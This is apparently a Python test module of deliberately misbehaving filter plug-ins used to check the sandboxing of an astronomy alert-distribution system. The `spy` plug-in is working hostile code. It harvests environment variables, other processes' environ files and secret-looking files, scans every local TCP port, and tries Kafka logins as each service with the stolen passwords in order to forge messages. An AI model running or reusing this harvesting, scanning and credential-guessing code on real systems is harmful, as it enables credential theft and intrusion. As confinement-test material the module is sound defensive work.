"""Filter plug-ins that misbehave, for the confinement tests. A live copy loads them by name
(``tests.hostile_plugins:...``) in its confined child process, so they must be importable by the confined uid
(files of the repository are world-readable).

`spy` is the hostile plug-in of issue 23: it looks for every password it can reach (its environment, every
process's environment, every file under the places a home or a secret lives), tries every TCP port of the
machine and a Kafka login as every service, tries to write into another filter's output, reports what it got
through the only channel it has (its first alert's annotations), and then hangs.
"""

from __future__ import annotations

import json
import os
import socket
import sys
import time

from alertdist.filters import alert_filter

#: A candid of the simulated night the tests publish (`simulate_night(300, seed=7)`, its 151st alert).
HANG_ON = 2476093762915015000
SERVICES = ("admin", "publisher", "archiver", "replay", "mirror", "filter_bright_transients", "filter_solar_system")
#: Where a home, a secret or another process's state may be (the tests' homes are under /tmp).
ROOTS = ("/tmp", "/root", "/dev/shm", "/run", "/var/tmp", "/home", "/work", "/proc")
_SUSPECT = ("password", "secret", "auth", ".jks", ".pem", ".key", "prefect.db", "environ", ".properties")


@alert_filter(name="hangs_on_one", fields=("candid",))
def hangs_on_one(alert):
    """Passes every alert, but hangs (for good) on one: HANG_ON."""
    if alert["candid"] == HANG_ON:
        time.sleep(3600)
    return True, {"seen": alert["candid"] % 1000}


@alert_filter(name="always_hangs", fields=("candid",))
def always_hangs(alert):
    time.sleep(3600)
    return True


@alert_filter(name="dies", fields=("candid",))
def dies(alert):
    """Ends its own process (no exception to catch), saying why on stderr, with a control character in it."""
    sys.stderr.write("step one\nthe catalogue \x1b[31mis gone\n")
    sys.stderr.flush()
    os._exit(3)


@alert_filter(name="big_notes", fields=("candid",))
def big_notes(alert):
    """Passes every alert with annotations of 70,000 bytes (over the 64 KiB cap) when its candid is odd."""
    return True, {"blob": "x" * (70_000 if alert["candid"] % 2 else 10)}


class Spy:
    """Spies on its first alert (the report in its annotations), hangs on every later one."""

    calls = 0

    def __call__(self, alert):
        Spy.calls += 1
        if Spy.calls > 1:
            time.sleep(3600)
        return True, {"report": json.dumps(spy_report(), sort_keys=True)[:60_000]}


spy = alert_filter(name="spy", fields=("candid",))(Spy)


def spy_report(budget_s: float = 3.0) -> dict:
    """Everything a hostile plug-in can find and do from where it runs."""
    report: dict = {"uid": os.getuid(), "env": dict(os.environ), "found": [], "denied": [], "readable": 0}
    found = report["found"]
    until = time.monotonic() + budget_s
    for root in ROOTS:
        try:
            walker = os.walk(root, onerror=lambda e: report["denied"].append(f"{e.filename}: {e.strerror}"))
            for folder, dirs, files in walker:
                dirs[:] = [d for d in dirs if d not in (".venv", "node_modules", ".git", "site-packages", "task")]
                if root == "/proc":
                    dirs[:] = [d for d in dirs if d.isdigit()] if folder == "/proc" else []
                    files = [f for f in files if f in ("environ", "cmdline")]
                for name in files:
                    path = os.path.join(folder, name)
                    try:
                        with open(path, "rb") as f:
                            head = f.read(4096)
                    except OSError:
                        continue
                    report["readable"] += 1
                    if any(s in path.lower() for s in _SUSPECT) and len(found) < 300:
                        found.append([path, head[:400].decode("latin-1")])
                if time.monotonic() > until:
                    break
        except OSError as e:
            report["denied"].append(f"{root}: {e}")
    report["denied"] = report["denied"][:50]
    report["open_ports"] = open_ports()
    report["kafka"] = kafka_attempts(report["open_ports"], found)
    return report


def open_ports() -> list[int]:
    """Every TCP port of this machine that accepts a connection (loopback, and the host's own address)."""
    opened = []
    for port in range(1, 65536):
        with socket.socket() as s:
            s.settimeout(0.2)
            try:
                s.connect(("127.0.0.1", port))
            except OSError:
                continue
            opened.append(port)
    return opened


def kafka_attempts(ports: list[int], found: list) -> dict[str, str]:
    """A login as every service with the password-like texts found, each writing into another filter's output."""
    from confluent_kafka import Producer

    guesses = [text.strip() for path, text in found if "password" in path][:5] or ["guess"]
    servers = ",".join(f"127.0.0.1:{p}" for p in ports[:20]) or "127.0.0.1:9092"
    attempts = {}
    for service in SERVICES:
        for i, password in enumerate(guesses):
            producer = Producer(
                {
                    "bootstrap.servers": servers,
                    "security.protocol": "SASL_SSL",
                    "sasl.mechanisms": "SCRAM-SHA-512",
                    "sasl.username": service,
                    "sasl.password": password,
                    "enable.ssl.certificate.verification": False,
                    "message.timeout.ms": 1500,
                }
            )
            result = attempts[f"{service} #{i}"] = ["refused", producer]
            producer.produce(
                "ztf_20231012_programid1_bright_transients",
                b"forged",
                on_delivery=lambda err, msg, result=result: err is None and result.__setitem__(0, "WRITTEN"),
            )
    until = time.monotonic() + 2.0
    for result in attempts.values():
        result.pop().flush(max(until - time.monotonic(), 0))
    return {who: result[0] for who, result in attempts.items()}
